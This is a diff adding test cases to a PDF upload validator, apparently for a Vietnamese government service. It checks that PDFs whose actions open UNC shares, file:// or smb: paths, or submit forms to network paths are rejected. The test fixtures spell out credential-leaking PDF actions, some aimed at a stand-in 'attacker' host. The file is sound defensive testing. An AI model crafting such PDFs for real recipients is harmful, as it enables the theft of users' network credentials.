@@ -1,8 +1,8 @@
 // PDFs that must not get in: broken, encrypted, or carrying active content.
-import { PDFName, PDFString } from 'pdf-lib';
+import { PDFHexString, PDFName, PDFString } from 'pdf-lib';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { t } from '../i18n/index.ts';
-import { plainPdf, pdfWith, withOpenAction, withPageAction } from './test-fixtures/pdf-fixtures.ts';
+import { plainPdf, pdfWith, withLink, withOpenAction, withPageAction } from './test-fixtures/pdf-fixtures.ts';
 import { createUploadHarness, type UploadHarness } from './test-fixtures/upload-harness.ts';
 
 let h: UploadHarness;
@@ -80,10 +80,46 @@ describe('PDF uploads', () => {
     );
   });
 
+  // Actions that open another file make desktop readers connect to it, handing over the officer's credentials (issue 11, item 7).
+  const outboundCases: [string, Parameters<typeof pdfWith>[0], string, string][] = [
+    [
+      'an /OpenAction going to a PDF on a UNC share',
+      (d) => withOpenAction(d, d.context.obj({ S: 'GoToR', F: PDFString.of('\\\\\\\\10.0.0.9\\\\chia-se\\\\bao-cao.pdf') /* backslashes escaped as PDF syntax wants */, D: [0, 'Fit'] })),
+      'GoToR',
+      '\\\\10.0.0.9\\chia-se\\bao-cao.pdf',
+    ],
+    [
+      'an /OpenAction going into a PDF embedded in a remote file (file specification dictionary)',
+      (d) => withOpenAction(d, d.context.obj({ S: 'GoToE', F: d.context.obj({ Type: 'Filespec', F: PDFString.of('//may-chu/tai-lieu/goc.pdf'), UF: PDFHexString.fromText('//máy-chủ/tài-liệu/gốc.pdf') }), T: d.context.obj({ R: 'C', N: PDFString.of('x') }) })),
+      'GoToE',
+      '//máy-chủ/tài-liệu/gốc.pdf',
+    ],
+    ['a GoToR to a local file, even without a network path', (d) => withLink(d, d.context.obj({ S: 'GoToR', F: PDFString.of('phu-luc.pdf'), D: [0, 'Fit'] })), 'GoToR', 'phu-luc.pdf'],
+    ['a link to a file:// URI', (d) => withLink(d, d.context.obj({ S: 'URI', URI: PDFString.of('file://attacker.example/share/a.docx') })), 'URI', 'file://attacker.example/share/a.docx'],
+    ['a link to an upper-case FILE: URI after blanks', (d) => withLink(d, d.context.obj({ S: 'URI', URI: PDFString.of('  FILE:///C:/Windows/win.ini') })), 'URI', 'FILE:///C:/Windows/win.ini'],
+    ['a page /AA opening a UNC URI', (d) => withPageAction(d, d.context.obj({ S: 'URI', URI: PDFHexString.fromText('\\\\attacker\\x') })), 'URI', '\\\\attacker\\x'],
+    [
+      'a form submitted to a UNC path, chained after a harmless link action',
+      (d) => withLink(d, d.context.obj({ S: 'GoTo', D: [d.getPage(0).ref, 'Fit'], Next: d.context.obj({ S: 'SubmitForm', F: d.context.obj({ FS: 'URL', F: PDFHexString.fromText('\\\\thu-thap\\nhan') }) }) })),
+      'SubmitForm',
+      '\\\\thu-thap\\nhan',
+    ],
+    ['data imported from an smb: share', (d) => withOpenAction(d, d.context.obj({ S: 'ImportData', F: PDFString.of('smb://kho/du-lieu.fdf') })), 'ImportData', 'smb://kho/du-lieu.fdf'],
+  ];
+
+  it.each(outboundCases)('refuses %s, naming the target', async (_label, change, action, target) => {
+    const refused = await h.refusal(await pdfWith(change), 'hồ sơ.pdf');
+    expect(refused).toMatchObject({ status: 422, key: 'upload.pdfOutboundAction', params: { action, target } });
+    const message = t('vi', refused.key, refused.params);
+    expect(message).toContain(`"${target}"`);
+    expect(message).toContain('không được chấp nhận');
+  });
+
   it('accepts ordinary navigation: an /OpenAction that only opens page 1, and web links', async () => {
     const pdf = await pdfWith((d) => {
       withOpenAction(d, d.context.obj([d.getPage(0).ref, 'Fit']));
       withPageAction(d, d.context.obj({ S: 'URI', URI: PDFString.of('https://dichvucong.gov.vn') }));
+      withLink(d, d.context.obj({ S: 'URI', URI: PDFString.of('https://dichvucong.gov.vn/p/home/dvc-tthc-thu-tuc-hanh-chinh.html?ma=1.004470') }));
     });
     expect(await h.upload(pdf, 'hướng dẫn.pdf')).toMatchObject({ kind: 'pdf', pages: 1 });
   });
